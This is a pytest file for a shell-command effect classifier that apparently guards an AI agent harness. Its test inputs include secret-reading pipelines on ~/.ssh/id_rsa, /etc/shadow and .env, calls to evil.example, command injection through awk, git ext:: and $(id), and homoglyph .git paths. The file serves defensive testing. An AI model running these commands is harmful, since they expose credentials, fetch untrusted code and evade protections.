"""What a command reaches beside the words of its line: names, files, remotes, hosts."""

import time
from dataclasses import asdict
from typing import Final

import pytest

from critic.command.command_table import CommandTable, ProgramEntry
from critic.command.shell_facts import ShellFacts
from critic.command.steps import read_steps
from harness.policy.shell_settings import shipped_table
from tests.support.command_tables import SMALL_TABLE
from tests.support.shell_worlds import World

WORLD = World()
SHIPPED = shipped_table("common-1")


def effects(command: str, table: CommandTable = SMALL_TABLE) -> set[str]:
    return {step.effect for step in WORLD.read(command, table).steps}


@pytest.mark.parametrize("action", ["-printf '/home/u/.ssh/id_rsa\\n'", "-ls"])
def test_what_find_prints_beside_names_is_no_list_of_names(action: str) -> None:
    assert effects(f"find . {action}") == {"list"}
    assert effects(f"find . {action} | xargs cat") == {"unknown"}
    assert effects("find . | xargs cat") == {"list", "read"}


@pytest.mark.parametrize("path", ["/wx/a.py", "/w.bak/a.py", "../wx", "/home/u2/x", "/usrx/a"])
def test_a_folder_whose_name_begins_alike_is_another_one(path: str) -> None:
    assert effects(f"cat {path}") == {"read_outside"}
    assert effects(f"touch {path}") == {"write_outside"}


def test_a_program_by_name_is_not_known_where_the_project_writes_to_path() -> None:
    (step,) = World(path_safe=False).read("ls", SMALL_TABLE).steps
    assert (step.effect, "a folder of PATH" in step.why) == ("unknown", True)
    assert World(path_safe=False).read("cd src", SMALL_TABLE).is_understood


@pytest.mark.parametrize("pattern", ["*.pem", "./*.key", "certs/*.p12", "x.p?m", "*.PEM", "*.k*"])
def test_a_pattern_with_the_ending_of_secrets_gives_one(pattern: str) -> None:
    assert effects(f"cat {pattern}") == {"read_secret"}


@pytest.mark.parametrize("pattern", ["*.py", "*", "./*.*", "src/*.json", "k*.py"])
def test_an_ordinary_pattern_gives_none(pattern: str) -> None:
    assert effects(f"cat {pattern}") == {"read"}


def test_an_annotated_tag_changes_the_repository() -> None:
    assert effects("git tag -a v1") == {"commit"}
    assert effects("git tag v1") == {"commit"}
    assert effects("git tag -l 'v*'") == effects("git tag") == {"list"}
    assert effects("git branch -a") == {"list"}
    assert effects("git branch -v x") == {"commit"}
    for upstream in ("-u origin/main", "--set-upstream-to=origin/main", "--unset-upstream"):
        assert effects(f"git branch {upstream}", shipped_table("common-1")) == {"commit"}


def test_a_format_of_curl_may_write_a_file() -> None:
    ask = "http://localhost/"
    assert effects(f"curl -s -w '%{{http_code}}' {ask}") == {"fetch"}
    assert effects(f"curl -w '%output{{x}}y' {ask}") == {"unknown"}
    assert effects(f'curl -w "$(cat f)" {ask}') == {"unknown"}


@pytest.mark.parametrize("words", ["-X POST", "--request DELETE", "--request=PUT", "-XPATCH"])
def test_a_request_that_may_change_something_sends(words: str) -> None:
    assert effects(f"curl {words} https://docs.example/x", SHIPPED) == {"fetch", "send"}
    assert effects("curl -X HEAD https://docs.example/x", SHIPPED) == {"fetch"}


def test_a_form_sends_each_file_of_a_list() -> None:
    steps = WORLD.read("curl -F 'a=@x.txt,.env;type=text/plain' http://localhost/", SMALL_TABLE)
    assert [step.effect for step in steps.steps if step.carries] == ["fetch", "send"]


REMOTES = ProgramEntry(
    names="git", sub="ls-remote remote/show", args="ref*", effect="fetch", reader="git"
)


@pytest.mark.parametrize("command", ["git ls-remote", "git remote show"])
def test_a_question_to_a_remote_is_for_one_that_the_repository_names(command: str) -> None:
    table = SMALL_TABLE.model_copy(update={"command": (*SMALL_TABLE.command, REMOTES)})
    (step,) = WORLD.read(f"{command} origin", table).steps
    assert (step.effect, step.values("host")) == ("fetch", ("git.example",))
    for other in ("https://evil.example/x", "u@evil.example:x", "'ext::sh -c id'", "elsewhere"):
        assert effects(f"{command} {other}", table) == {"unknown"}


def test_a_program_may_have_a_host_of_its_own() -> None:
    entry = ProgramEntry(names="hub", args="text*", effect="send", host="hub.example")
    table = SMALL_TABLE.model_copy(update={"command": (*SMALL_TABLE.command, entry)})
    (step,) = WORLD.read("hub open 12", table).steps
    assert step.values("host") == ("hub.example",)


@pytest.mark.parametrize("late", ["-n", "-c"])
def test_an_option_after_an_operand_is_a_file_for_other_systems(late: str) -> None:
    assert effects(f"head a.py {late} ~/.ssh/id_rsa") == {"read", "read_secret"}
    assert effects(f"head a.py {late} .env") == {"read", "read_secret"}
    assert effects(f"head a.py {late} 20") == effects(f"head {late} 20 a.py") == {"read"}
    assert effects("grep -e .env a.py") == {"read"}
    assert "read_secret" not in effects("git commit a.py -m .env")


def test_an_address_is_no_path() -> None:
    for command in ("pip install -r https://evil.example/r", "cat http://localhost/", "wc x://y"):
        assert effects(command) == {"unknown"}


def test_what_is_installed_from_a_folder_runs() -> None:
    (*_, step) = WORLD.read("pip install -e /tmp/x", SMALL_TABLE).steps
    assert (step.name, step.values("script")) == ("run.build", ("/tmp/x",))  # noqa: S108


@pytest.mark.parametrize("word", ["'$(id)'", "'`id`'", "'a\"b'", "'a\\b'"])
def test_a_word_for_a_script_has_no_signs_of_a_shell(word: str) -> None:
    assert effects("npm test -- -t parse") == {"read", "run"}
    assert effects(f"npm test -- -t {word}") == {"unknown"}


def test_a_pattern_after_an_option_is_read_as_one() -> None:
    assert effects("grep -rn x --include=*.py src") == {"read"}
    assert effects("grep -rn x --include=*.pem src") == {"read", "read_secret"}
    assert effects("grep -rn x --include=$X src") == {"unknown"}


def test_temporary_folders_are_there_already() -> None:
    assert effects("mkdir -p /tmp/x/y") == {"write"}
    assert effects("mkdir -p /srv/x") == {"write_outside"}


@pytest.mark.parametrize("root", ["/tmp/p/w", "/var/tmp/w", "/tmp"])  # noqa: S108
def test_a_project_in_a_temporary_folder_is_not_temporary(root: str) -> None:
    world = World(root=root)
    for target in (".", "src", "./a.py", f"{root}/src", "..", root, "src/../a.py"):
        steps = world.read(f"rm -rf {target}", SMALL_TABLE, cwd=root).steps
        assert {step.effect for step in steps} == {"delete"}, target
    (made,) = world.read("rm -rf build", SMALL_TABLE, cwd=root).steps
    assert made.effect == "delete_made"


def test_a_link_into_a_project_in_a_temporary_folder_leads_to_the_project() -> None:
    top = "/tmp"  # noqa: S108
    world = World(root=f"{top}/w", links={f"{top}/w/out": f"{top}/z", f"{top}/in": f"{top}/w/src"})
    for target, effect in (("out", "delete"), (f"{top}/in/x", "delete"), ("../z/x", "delete_made")):
        (step,) = world.read(f"rm -r {target}", SMALL_TABLE, cwd=world.root).steps
        assert step.effect == effect, target


def test_an_archive_of_zip_has_its_ending() -> None:
    entry = ProgramEntry(names="zip", opts="-r -q", args="write read+", reader="zip")
    table = SMALL_TABLE.model_copy(update={"command": (*SMALL_TABLE.command, entry)})
    assert effects("zip -qr out.zip src", table) == {"read", "write"}
    assert effects("zip -r .git/x.zip src", table) == {"read", "write_protected"}
    for command in (
        "zip -r out src",
        "zip -r .x src",
        "zip - src",
        "zip out.zip",
        "zip -T x.zip y",
    ):
        assert effects(command, table) == {"unknown"}


@pytest.mark.parametrize(
    "command",
    [
        "node_modules/.bin/ls src",
        ".venv/bin/cat a.py",
        "./node_modules/.bin/env ls",
        "timeout 5 .venv/bin/ls",
        "find . -exec .venv/bin/cat {} +",
        "pdm run ls",
        "uv run cat a.py",
        "bundle exec ls",
        ".venv/bin/git status",
    ],
)
def test_a_file_of_the_project_runs_whatever_its_name_promises(command: str) -> None:
    assert "run" in effects(command)


def test_a_runner_asks_for_what_it_runs() -> None:
    names = [step.name for step in WORLD.read("uv run pytest -q", SMALL_TABLE).steps]
    assert [name for name in names if name.startswith("run")] == ["run.test"]
    assert "run" not in effects("/usr/bin/ls src")


@pytest.mark.parametrize(
    "program",
    ["NR>1{s+=$3} END{print s}", "length($0) > 100", "$1>=2 || $2>3", "{if ($1>2) print $1}"],
)
def test_awk_compares(program: str) -> None:
    assert effects(f"awk '{program}' a.txt") == {"read"}


@pytest.mark.parametrize(
    "program",
    [
        '{print>"x"}',
        '{print $1 >> "x"}',
        '{printf "%s", $1 > "x"}',
        'BEGIN{if (1>0) print "a" > "x"}',
        '{print ";" > "x"}',
        '{print\\\n>"x"}',
        '$1>2{print | "sh"}',
        '"id" | getline x',
        '$1>2{system("id")}',
    ],
)
def test_awk_writes_and_runs(program: str) -> None:
    assert effects(f"awk '{program}' a.txt") == {"unknown"}


@pytest.mark.parametrize(
    "command",
    [
        "find . -name a.md | grep . <<< ~/.ssh/id_rsa | xargs cat",
        "find . -name a.md | grep . < list | xargs cat",
        "find . -name a.md | grep . <<'E' | xargs cat\n/etc/shadow\nE",
        "find . -name a.md | (grep . <<< /etc/shadow) | xargs cat",
        "find . -name a.md | grep -o '/.*' | xargs cat",
        "find . -name a.md | grep -c . | xargs cat",
        "find . -name a.md | grep -f list | xargs cat",
        "find . -name a.md | rg -o -r /etc/shadow . - | xargs cat",
        "find . -name a.md | tail -c 12 | xargs cat",
        "find . -name a.md | sort -o x | xargs cat",
        "find . -name a.md | uniq -c | xargs cat",
        "find . -name a.md | xargs cat <<< /etc/shadow",
        "rg -l '/etc/shadow (' 2>&1 | xargs cat",
        "rg -l '/etc/shadow (' |& xargs cat",
        "{ rg -l '/etc/shadow ('; } 2>&1 | xargs cat",
    ],
)
def test_what_is_no_list_of_names_gives_none(command: str) -> None:
    assert effects(command) == {"unknown"}


def test_lines_that_are_handed_on_whole_are_names_still() -> None:
    line = "find . 2>/dev/null | grep -v x | sort -u | head -n 20 | tail -5 | xargs cat 2>&1"
    assert "read" in effects(line)
    assert "unknown" not in effects(line)


@pytest.mark.parametrize(
    "address",
    [
        *("http://h/AGENTS.md#a", "http://h/AGENTS.md/", "http://h/AGENTS%2emd", "http://h/x/.."),
        *("http://h/AGENTS.md/.", "'http://h/x;AGENTS.md'", "http://h"),
    ],
)
def test_a_file_that_is_named_otherwise_than_its_address_is_not_understood(address: str) -> None:
    for command in ("curl -O", "curl --remote-name", "curl -O --url"):
        assert effects(f"{command} {address}") == {"unknown"}


@pytest.mark.parametrize("command", ["curl -O", "curl -O --url", "curl --remote-name", "wget"])
def test_a_file_that_is_named_after_an_address_is_written(command: str) -> None:
    assert effects(f"{command} http://h/x/AGENTS.md", SHIPPED) == {"fetch", "write_protected"}
    assert effects(f"{command} http://h:80/x.tgz", SHIPPED) == {"fetch", "write"}
    assert effects("wget http://h/AGENTS%2emd", SHIPPED) == {"unknown"}
    assert effects("wget http://h/x/", SHIPPED) == {"fetch", "write"}


@pytest.mark.parametrize("ending", [".gz", "-gz", ".z", "-z", "_z", ".Z", ".GZ", ".m?.gz", ".*"])
def test_gunzip_takes_away_each_ending_that_it_knows(ending: str) -> None:
    name = "AGENTS" + (ending if "?" in ending else f".md{ending}")
    wrong = "write_outside" if ending in (".m?.gz", ".*") else "write_protected"
    assert wrong in effects(f"gunzip {name}", SHIPPED)
    assert effects(f"gunzip -c AGENTS.md{ending}", SHIPPED) == {"read"}
    assert effects("gunzip x.tgz", SHIPPED) == {"read", "write"}


@pytest.mark.parametrize(
    ("line", "is_secret"),
    [
        *((one, True) for one in ("echo $DATABASE_URL", "echo $FOO; FOO=1", "(FOO=1); echo $FOO")),
        *((one, True) for one in ("false && FOO=1; echo $FOO", "FOO=1 & echo $FOO")),
        *((one, True) for one in ("FOO=1; sh -c 'echo $FOO'", "echo $(FOO=1); echo $FOO")),
        *((one, True) for one in ("FOO=1 echo $FOO", "FOO=1 | cat; echo $FOO", "echo ${FOO}")),
        *((one, False) for one in ("echo $PATH $HOME $?", "FOO=1; echo $FOO", "echo $NODE_ENV")),
        *((one, False) for one in ("FOO=1 && echo $FOO", "{ FOO=1; }; echo $FOO")),
    ],
)
def test_a_variable_that_is_not_known_is_of_the_environment(line: str, is_secret: bool) -> None:
    assert ("read_secret" in effects(line)) is is_secret


@pytest.mark.parametrize(
    ("flag", "asks"), [("", True), ("-i", True), ("-v", False), ("-iv", False)]
)
def test_a_filter_of_names_asks_for_what_it_lets_through_and_for_nothing_that_it_drops(
    flag: str, asks: bool
) -> None:
    found = effects(f"find . -type f | grep {flag} '\\.env' | xargs cat", SHIPPED)
    assert ("read_secret" in found) is asks
    assert "unknown" not in found


@pytest.mark.parametrize("flag", ["-y", "--yes"])
def test_npx_that_may_fetch_installs(flag: str) -> None:
    assert effects(f"npx {flag} eslint .", SHIPPED) == {"read", "run", "install"}
    assert effects("npx --no-install eslint .", SHIPPED) == {"read", "run"}
    assert effects("npx mypy .", SHIPPED) == {"unknown"}


@pytest.mark.parametrize(
    ("command", "is_lost"),
    [
        *(
            (one, True)
            for one in ("mv src /tmp/x", "mv src /tmp", "mv a.py /tmp/y/", "mv src venv")
        ),
        *((one, True) for one in ("mv src build/src", "mv a.py a.log", "git mv src build/src")),
        *((one, False) for one in ("mv build/x /tmp/y", "mv a.txt b.txt", "mv /tmp/a b.py")),
        *((one, False) for one in ("mv a.log b.log", "git mv a.py b.py", "mv /tmp/a /tmp/b")),
    ],
)
def test_what_is_moved_to_where_nothing_is_kept_is_deleted(command: str, is_lost: bool) -> None:
    assert ("delete" in effects(command)) is is_lost


@pytest.mark.parametrize(
    "command",
    [
        *("git rm AGENTS.md", "git rm --cached AGENTS.md", "git checkout -- AGENTS.md"),
        *("git checkout HEAD~1 -- AGENTS.md", "git restore AGENTS.md", "git clean -f AGENTS.md"),
        *("git stash push AGENTS.md", "git mv a.md AGENTS.md", "git mv AGENTS.md a.md"),
    ],
)
def test_git_takes_no_protected_file_away(command: str) -> None:
    assert "write_protected" in effects(command, SHIPPED)


@pytest.mark.parametrize("command", ["git add", "git diff --", "git grep x --", "git log --"])
def test_git_reads_patterns_in_quotes(command: str) -> None:
    assert "read_secret" in effects(f"{command} '.e*'", SHIPPED)
    assert "read_secret" in effects(f"{command} 'src/*.pem'", SHIPPED)
    assert "read_secret" not in effects(f"{command} '*.py'", SHIPPED)
    assert effects(f"{command} ':(top)x'", SHIPPED) == {"unknown"}
    assert "unknown" not in effects(f"{command} a.py ':(exclude)x'", SHIPPED)


def test_a_target_that_is_a_path_is_a_file_that_runs() -> None:
    for command in ("bun run ../x", "just ../x", "make ../x"):
        assert effects(command, SHIPPED) == {"read", "read_outside", "run"}
    (*_, step) = WORLD.read("bun run a.ts", SHIPPED).steps
    assert step.values("script")[0] == "/w/a.ts"


def test_what_is_exported_is_read_by_no_program() -> None:
    assert effects("export FOO=bar; cd src") == {"list"}
    for command in ("export FOO=bar; ls", "export FOO=bar; ./x.sh", "export FOO=bar; sh -c ls"):
        assert effects(command) == {"unknown"}
    for command in ("export LC_ALL=x", "export PATH=x", "export FOO=a/b", 'export FOO="$X"'):
        assert effects(command) == {"unknown"}


@pytest.mark.parametrize(
    ("filter_", "is_plain"),
    [
        *((one, True) for one in (".env", ".include", ".a.env", ".[0].import", ".a|.env")),
        *((one, False) for one in ("env", "$ENV", ".|env.PATH", "..|env", "..env", "1.env")),
        *((one, False) for one in ("input_filename", '"\\(env)"', '.a|include "x";.')),
    ],
)
def test_a_field_of_jq_is_no_word_of_its_language(filter_: str, is_plain: bool) -> None:
    assert (effects(f"jq '{filter_}' a.json") == {"read"}) is is_plain


OUT: Final = "/var/tmp/out"  # noqa: S108 - only compared
LED: Final = World(
    links={
        "/home/u/in": "/w/src",
        OUT: "/home/u/x",
        "/home/u/tmp": "/var/tmp/x",  # noqa: S108 - the same
        "/w/top": "/w",
    }
)


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        *((f"{command} ~/in", "read_outside") for command in ("cat", "ls")),
        *((f"{command} {OUT}", "read_outside") for command in ("cat", "ls")),
        ("cat ~/tmp", "read_outside"),
        *((f"echo x > {name}", "write_outside") for name in ("~/in", OUT, "~/tmp")),
        *((f"cp -r src {name}", "write_outside") for name in ("top", "top/", OUT)),
        *((f"rm {name}", "delete") for name in ("~/in", OUT, "~/tmp")),
    ],
)
def test_a_path_is_as_bad_as_the_worse_of_where_it_is_and_where_it_leads(
    command: str, effect: str
) -> None:
    assert effect in {step.effect for step in LED.read(command, SMALL_TABLE).steps}


def test_what_is_shown_or_taken_away_under_a_guarded_name_is_not_fine_by_its_folder() -> None:
    for name in ("/etc/shadow", "/usr/.ssh", "/var/log/.aws", "/etc/.aws/x"):
        assert effects(f"ls {name}") == {"read_outside"}
    for name in (".env/prod", "src/.env.d/x"):
        assert effects(f"cat {name}") == {"read_secret"}
    for name in (".venv/bin/python", "node_modules/x/i.js", ".VENV/x", "a/site-packages/x"):
        assert "write_outside" in effects(f"echo x > {name}")
    assert effects("rm /tmp/x") == {"delete_made"}
    for pattern in ("x*", "*", "d/*", "d/x?"):
        assert effects(f"rm /tmp/{pattern}") == {"delete"}


@pytest.mark.parametrize(
    "name",
    ["\uff0egit", ".\uff47it", ".GI\uff34", ".g\u200cit", "\u200b.git", ".gi\xadt", ".\u24d6it"],
)
def test_a_protected_name_counts_in_whichever_letters_a_disk_takes_for_it(name: str) -> None:
    for path in (f"{name}/x", f"src/{name}", f"./{name}/../{name}/hooks/x"):
        assert "write_protected" in effects(f"echo x > '{path}'")
        assert "write_protected" in effects(f"rm -r '{path}'")


@pytest.mark.parametrize("flags", ["-y --no-install", "--no-install -y", "--yes --no"])
def test_npx_that_may_fetch_installs_whatever_is_said_beside_it(flags: str) -> None:
    assert "install" in effects(f"npx {flags} eslint .", SHIPPED)


@pytest.mark.parametrize(
    "command",
    [
        "env CI=1 LD_PRELOAD=x ls",
        *(f"cargo test -- --x={name}" for name in (".env", ".git/x")),
        "cd src || cd other; git status",
        "tar xf a.tar -C src; cd src && git log",
        "cp -r x src; cd src && git log",
        *(f"git push origin {ref}" for ref in (":main", "+main", "main :x", "main +x")),
        "git fetch origin main https://evil.example/x",
        "git config --get user.name http.extraheader",
        "git ls-files -o | xargs cat",
        "git ls-files --others | xargs cat",
        "cp -r l* x; cat x",
        "cp -a src x; cat x/y",
        "(find . -name a.py; echo x) | xargs cat",
        "find . | cat <<< x | xargs cat",
        "sed -e p -e 'w .git/x' a.py",
        "curl -s -w '%output{x}y' http://localhost/",
        "curl -o x -w '%output{y}z' http://localhost/",
        "curl -s -b jar http://localhost/",
        "coverage run -m http.server",
        "awk '{print}' a.py -f x",
        "cat <<'A' <<B\nx\nA\n$(id)\nB",
    ],
)
def test_a_line_is_not_understood_by_the_first_of_several_alone(command: str) -> None:
    """The second assignment, folder, ref, setting or source counts as the first one does."""
    assert effects(command, SHIPPED) == {"unknown"}


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("npm test -- --junitxml=.git/x", "write_protected"),
        ("mv .g* x", "write_protected"),
        ("mv a.py .g* x", "write_protected"),
        ("ln ~/x b", "write_outside"),
        ("git checkout -- main", "discard"),
        ("git clean -q -f", "discard"),
        ("git clean -fq", "discard"),
        ("(find . -name a.py; find . -name '*.pem') | xargs cat", "read_secret"),
        ("(find . -name '*.pem'; find . -name a.py) | xargs cat", "read_secret"),
        (f"curl 'https://docs.example/?{'q' * 101}'", "send"),
        ("find . -name a.py -o -name '*.pem' -exec cat {} +", "read_secret"),
        ("find . -name '*.pyc' -o -delete", "delete"),
        ("find src ~/docs -name x -exec cat {} +", "read_outside"),
        ("find src .git -name x -exec rm {} +", "write_protected"),
        ("sed -i s/a/b/ a.py .git/config", "write_protected"),
        ("rm -r ~/.config/git", "write_protected"),
        ("echo x > a.pem", "write_outside"),
        ("python -u -m ruff check a.py", "run"),
        ("tar czf x.tgz -C ~/docs a", "read_outside"),
        ("cat <<'A' <<'B' > .git/x\nx\nA\nrm b.py\nB", "write_protected"),
    ],
)
def test_a_second_effect_is_seen_beside_the_first(command: str, effect: str) -> None:
    world = World(branches=("main",))
    assert effect in {step.effect for step in world.read(command, SHIPPED).steps}


def test_a_list_of_packages_is_of_the_project_where_it_leads_too() -> None:
    line = "pip install -r reqs.txt"
    assert WORLD.read(line, SHIPPED).is_understood
    assert not World(links={"/w/reqs.txt": "/home/u/reqs"}).read(line, SHIPPED).is_understood


@pytest.mark.parametrize("lacks", ["links", "git", "refs", "remotes", "path_safe"])
def test_a_line_is_not_understood_while_a_fact_of_any_one_kind_is_missing(lacks: str) -> None:
    line = "cat a.py; git push origin main; git checkout main"
    facts = World(branches=("main",)).facts_for(line, {}, SHIPPED)
    assert read_steps(line, ShellFacts.model_validate(facts), SHIPPED).is_understood
    del facts[lacks]
    read = read_steps(line, ShellFacts.model_validate(facts), SHIPPED)
    assert (read.is_understood, len(read.steps)) == (False, 1)
    assert {name for name, needed in asdict(read.needs).items() if needed} == {lacks}


@pytest.mark.parametrize(
    ("command", "is_installed"),
    [
        *((f"tar xzf a.tgz -C {one}", True) for one in (".venv", "node_modules", "x/.tox")),
        *(
            (one, True)
            for one in ("cd .venv && tar xzf ../a.tgz", "unzip -o a.zip -d node_modules")
        ),
        *((one, True) for one in ("touch env/bin/x", "touch vendor/bin/x", "touch .nox/x/y")),
        *((one, False) for one in ("touch src/env/x", "touch vendor/x", "touch .venvx")),
    ],
)
def test_what_is_written_among_installed_programs_is_outside(
    command: str, is_installed: bool
) -> None:
    assert ("write_outside" in effects(command, SHIPPED)) is is_installed


@pytest.mark.parametrize(
    "command",
    [
        *("pip install -e file:/tmp/x", "pip install -r file:/tmp/x.txt", "deno test npm:evil"),
        *("pip install -c file:x -r a.txt", "deno check jsr:@a/b", "cat https://x/y", "cat ://x"),
    ],
)
def test_an_address_of_any_scheme_is_no_path(command: str) -> None:
    assert effects(command, SHIPPED) == {"unknown"}


@pytest.mark.parametrize(
    "path", ["a.py::t", "src/a.py:12", "a.py:12", "10:30.txt", "x.py::T::t[a:b]"]
)
def test_a_test_or_a_line_of_a_file_is_no_address(path: str) -> None:
    assert "unknown" not in effects(f"pytest {path}", SHIPPED)


@pytest.mark.parametrize(
    ("path", "is_secret"),
    [
        *((one, True) for one in (".git/config", ".GIT/CONFIG", ".git", ".git/*", "x/.git/con*")),
        *(
            (one, True)
            for one in (".git/modules/x/config", ".git/config.worktree", ".git/.g/config")
        ),
        *((one, True) for one in (".bundle/config", "a/.mvn/settings.xml")),
        *((one, False) for one in (".git/HEAD", "config", ".github/config", ".git/logs/HEAD")),
        *(
            (one, False)
            for one in ("settings.xml", ".mvn/config", ".git/*.sample", "config/.git.md")
        ),
    ],
)
def test_a_file_of_a_folder_is_a_secret_there_alone(path: str, is_secret: bool) -> None:
    assert ("read_secret" in effects(f"grep -r token {path}", SHIPPED)) is is_secret


@pytest.mark.parametrize(
    "copy",
    [
        *("{}~", "{}.bak", "{}.old", "{}-old", "{}.orig.bak", "#{}#", ".{}.swp", "{}.2", "{}.gz"),
        "{}-20240131.gz",
    ],
)
def test_a_copy_is_a_secret_like_its_original(copy: str) -> None:
    for name in ("server.key", "prod.env", "id_rsa", ".env"):
        assert effects(f"cat '{copy.format(name)}'", SHIPPED) == {"read_secret"}
    for name in ("a.py", ".env.example", "README.md", "keys"):
        assert effects(f"cat '{copy.format(name)}'", SHIPPED) == {"read"}


@pytest.mark.parametrize("end", ["~", ".bak", "-1"])
def test_a_long_name_of_a_copy_is_read_in_a_moment(end: str) -> None:
    started = time.process_time()
    assert effects(f"cat a{end * (15_000 // len(end))}x", SHIPPED) == {"read"}
    assert time.process_time() - started < 1


def test_settings_are_read_by_name_alone() -> None:
    assert effects("git config --get-regexp help.r", SHIPPED) == {"unknown"}


def hosts(command: str) -> set[str]:
    return {host for step in WORLD.read(command, SHIPPED).steps for host in step.values("host")}


def test_what_gh_is_told_may_name_another_host() -> None:
    for command in ("gh repo view evil.example/o/x", "gh pr view https://Evil.Example/o/r/pull/1"):
        assert hosts(command) == {"github.com", "evil.example"}
    assert hosts("gh auth status --hostname evil.example") == {"github.com", "evil.example"}
    for command in ("gh pr view 12", "gh pr view a/b", "gh pr view https://github.com/o/r/pull/1"):
        assert hosts(command) == {"github.com"}
    assert effects('gh pr view "$X"', SHIPPED) == {"unknown"}


@pytest.mark.parametrize("option", ["-o yaml", "-o=json", "--output jsonpath={.x}", '-o "$X"'])
def test_a_list_of_a_cluster_shows_no_values(option: str) -> None:
    assert effects(f"kubectl get pods {option}", SHIPPED) == {"unknown"}
    assert effects(f"helm status x {option}", SHIPPED) == {"unknown"}
    assert effects("kubectl get pods -o wide", SHIPPED) == {"list"}


@pytest.mark.parametrize("name", ["RAILS_ENV", "MIX_ENV", "DJANGO_ENV", "APP_ENV"])
def test_tests_run_where_nothing_is_in_use(name: str) -> None:
    assert effects(f"{name}=production pytest", SHIPPED) == {"unknown"}
    assert effects(f"{name}=test pytest", SHIPPED) == {"read", "run"}


@pytest.mark.parametrize("name", [".env", "'*.pem'", "id_rsa"])
def test_find_hands_on_the_names_of_every_test_but_of_those_it_denies(name: str) -> None:
    for test in (
        *(f"-name {name}", f"'(' -name {name} ')'", f"-type f '(' -name {name} ')'"),
        *(f"'(' -name {name} -o -name a.py ')'", f"'(' -name a.py -o -name {name} ')'"),
        *(f"-name {name} , -name a", f"-name a -o -name {name}"),
    ):
        assert "read_secret" in effects(f"find . {test} -exec cat {{}} +", SHIPPED)
        assert "read_secret" in effects(f"find . {test} | xargs cat", SHIPPED)
    assert effects(f"find . ! -name {name} -exec cat {{}} +", SHIPPED) == {"list", "read"}


def test_a_file_is_saved_for_each_address_however_it_is_given() -> None:
    first, second = (f"https://docs.example/{name}" for name in ("a", "b"))
    for line in (
        *(f"curl -O {first} {second}", f"curl -O {first} --url {second}"),
        *(f"curl -O --url {second} {first}", f"curl -O --url {first} --url {second}"),
        f"wget {first} {second}",
    ):
        steps = WORLD.read(line, SHIPPED).steps
        saved = {path for step in steps if "write" in step.effect for path in step.values("path")}
        assert saved == {"/w/a", "/w/b"}


@pytest.mark.parametrize("end", ["-exec cat {} +", "-print | xargs cat", "| xargs cat"])
def test_a_pruned_name_may_be_found_as_well(end: str) -> None:
    for test in (
        *("-name .env -prune -o -name x", "'(' -name .env -prune -o -false ')'"),
        *("! -name .env -o", "-not -name .env -prune -o", "! -name .env ,"),  # the others
    ):
        assert "read_secret" in effects(f"find . {test} {end}", SHIPPED)
